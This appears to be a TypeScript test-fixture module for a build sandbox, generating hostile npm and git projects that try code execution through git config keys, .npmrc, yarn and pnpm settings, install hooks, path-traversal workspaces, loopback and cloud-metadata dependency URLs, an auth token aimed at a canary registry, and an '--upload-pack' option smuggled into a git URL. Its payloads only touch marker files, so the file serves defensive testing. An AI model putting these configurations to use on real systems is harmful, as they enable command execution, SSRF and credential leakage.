import { HOSTILE_SCRIPT } from './hostile-script.ts';
import { bareRepository } from './installation-attack.ts';
import type { TestPackage } from './package-registry.ts';

/** Packages of the registry; `canary` is an address that nothing may connect to. */
export function hostilePackages(canary: string): Record<string, TestPackage> {
  const bin = Object.fromEntries(['git', '../../../outside'].map((name) => [name, 'bin.sh']));
  return {
    honest: { files: { 'index.js': '' } },
    scripted: {
      files: { 'probes.cjs': HOSTILE_SCRIPT },
      manifest: { scripts: { install: 'node probes.cjs' }, hasInstallScript: true },
    },
    binaries: { files: { 'bin.sh': '#!/bin/sh\ntouch /build/source/ran-bin\n' }, manifest: { bin } },
    elsewhere: { files: {}, tarball: `${canary}/elsewhere.tgz` },
    redirected: { files: {}, redirects: { tarball: `${canary}/redirected.tgz` } },
    'redirected-description': { files: {}, redirects: { description: `${canary}/redirected` } },
    nested: { files: {}, manifest: { dependencies: { deep: `git+${canary}/a/deep.git` } } },
  };
}

/** A program that leaves a trace if it is ever run. */
const trace = (name: string): string => `#!/bin/sh\ntouch /build/source/ran-${name}\n`;

/** Every key by which git's configuration names a program or an address. */
function gitConfig(canary: string): string {
  const run = (name: string): string => `touch /build/source/ran-${name}`;
  return [
    `\tfsmonitor = ${run('fsmonitor')}`,
    `\tsshCommand = ${run('ssh-command')}`,
    `\taskPass = ${run('ask-pass')}`,
    `\tgitProxy = ${run('git-proxy')}`,
    `\tpager = ${run('pager')}`,
    '\thooksPath = hooks',
    '[protocol]\n\tallow = always',
    '[protocol "ext"]\n\tallow = always',
    '[protocol "file"]\n\tallow = always',
    `[url "ext::sh -c touch% /build/source/ran-instead-of% "]\n\tinsteadOf = https://github.com/`,
    `[url "${canary}/"]\n\tinsteadOf = https://gitlab.com/`,
    `[credential]\n\thelper = "!${run('credential')}"`,
    `[credential "${canary}"]\n\thelper = "!${run('credential')}"`,
    '[include]\n\tpath = more.config',
    `[http]\n\tproxy = ${canary}\n\tsslVerify = false`,
    `[remote "origin"]\n\turl = ${canary}/origin.git\n\tuploadpack = ${run('upload-pack')}`,
    `[alias]\n\tls-remote = "!${run('alias')}"\n`,
  ].join('\n');
}

/** Every key of a project's .npmrc that names a program, a file, a place to write or an address. */
function npmrc(canary: string, registry: string): string {
  return [
    `registry=${canary}/`,
    `@evil:registry=${canary}/`,
    `proxy=${canary}/`,
    `https-proxy=${canary}/`,
    'noproxy=*',
    'git=/build/source/program.sh',
    'script-shell=/build/source/program.sh',
    'shell=/build/source/program.sh',
    'editor=/build/source/program.sh',
    'browser=/build/source/program.sh',
    'node-options=--require /build/source/preload.cjs',
    'ignore-scripts=false',
    'cafile=/build/source/none.pem',
    'strict-ssl=false',
    'init-module=/build/source/preload.cjs',
    'onload-script=/build/source/preload.cjs',
    'prefix=/build/source/evil-prefix',
    'cache=/build/source/evil-cache',
    'logs-dir=/build/source/evil-logs',
    'userconfig=/build/source/evil-npmrc',
    'globalconfig=/build/source/evil-npmrc',
    'global=true',
    'location=global',
    `//${new URL(registry).host}/:_authToken=\${OPERATOR_SECRET}`,
    '',
  ].join('\n');
}

/** Dependencies that lead to the canary, to the inside of the machine or out of the checkout. */
function dependencies(canary: string): Record<string, string> {
  const { port } = new URL(canary);
  return {
    'git-http': `git+${canary}/a/b.git`,
    'git-https': `git+https://127.0.0.1:${port}/a/b.git`,
    'git-scheme': `git://127.0.0.1:${port}/a/b.git`,
    'git-ssh': `git+ssh://git@127.0.0.1:${port}/a/b.git`,
    'git-file': 'git+file:///build/source',
    'git-github': 'git+https://github.com/harmless/extra.git',
    'git-gitlab': 'git+https://gitlab.com/harmless/extra.git',
    'git-option': `git+https://github.com/--upload-pack=touch/extra.git#--upload-pack=touch`,
    'tar-http': `${canary}/x.tgz`,
    'tar-https': `https://localhost:${port}/x.tgz`,
    'tar-decimal': `http://2130706433:${port}/x.tgz`,
    'tar-octal': `http://0177.0.0.1:${port}/x.tgz`,
    'tar-v6': `http://[::1]:${port}/x.tgz`,
    'tar-mapped': `http://[::ffff:127.0.0.1]:${port}/x.tgz`,
    'tar-metadata': 'http://169.254.169.254/latest/x.tgz',
    'file-out': 'file:../../../etc',
    'file-root': 'file:/etc',
    '@evil/scoped': '1.0.0',
    elsewhere: '1.0.0',
    redirected: '1.0.0',
    'redirected-description': '1.0.0',
    nested: '1.0.0',
  };
}

/** A project that tries everything at once; `targets` is for its install script. */
export function hostileProject(canary: string, registry: string, targets: unknown): Record<string, string> {
  const scripts = { preinstall: 'node -e 0', build: 'node -e 0' };
  return {
    ...bareRepository(gitConfig(canary)),
    'more.config': '[core]\n\tfsmonitor = touch /build/source/ran-include\n',
    'hooks/post-checkout': trace('hook'),
    'program.sh': trace('npmrc-program'),
    'preload.cjs': "require('node:fs').writeFileSync('/build/source/ran-preload', '');",
    'evil-npmrc': `registry=${canary}/\n`,
    '.npmrc': npmrc(canary, registry),
    '.yarnrc.yml': 'yarnPath: ./program.sh\nplugins: [./preload.cjs]\n',
    '.yarnrc': 'yarn-path "./program.sh"\n',
    '.pnpmfile.cjs': "require('node:fs').writeFileSync('/build/source/ran-pnpmfile', '');",
    'bunfig.toml': 'preload = ["./preload.cjs"]\n',
    'packages/inner/package.json': JSON.stringify({
      name: 'inner',
      version: '1.0.0',
      scripts: { postinstall: 'node -e 0' },
      optionalDependencies: { 'inner-git': `git+${canary}/a/inner.git` },
    }),
    'packages/inner/.npmrc': `registry=${canary}/\ngit=/build/source/program.sh\n`,
    'targets.json': JSON.stringify(targets),
    'index.html': 'a page',
    'package.json': JSON.stringify({
      name: 'hostile',
      private: true,
      packageManager: 'yarn@file:///build/source/program.sh',
      devEngines: { packageManager: { name: 'npm' }, runtime: { name: 'node' } },
      workspaces: ['packages/*', '../../../*'],
      scripts,
      dependencies: { honest: '1.0.0', scripted: '1.0.0', binaries: '1.0.0' },
      optionalDependencies: dependencies(canary),
    }),
  };
}

/** The lock file of a project whose packages are said to lie elsewhere. */
export function hostileLock(canary: string): Record<string, string> {
  const dependencies = { honest: '1.0.0', over: '1.0.0', by: '1.0.0' };
  const locked = (resolved: string): unknown => ({ version: '1.0.0', resolved, optional: true });
  return {
    'index.html': 'a page',
    'package.json': JSON.stringify({ name: 'locked', version: '1.0.0', optionalDependencies: dependencies }),
    'package-lock.json': JSON.stringify({
      name: 'locked',
      version: '1.0.0',
      lockfileVersion: 3,
      packages: {
        '': { name: 'locked', version: '1.0.0', optionalDependencies: dependencies },
        'node_modules/honest': locked(`${canary}/honest/-/honest-1.0.0.tgz`),
        'node_modules/over': locked(`git+${canary}/a/over.git#0123456789012345678901234567890123456789`),
        'node_modules/by': locked(
          'git+ssh://git@127.0.0.1/a/by.git#0123456789012345678901234567890123456789',
        ),
      },
    }),
  };
}
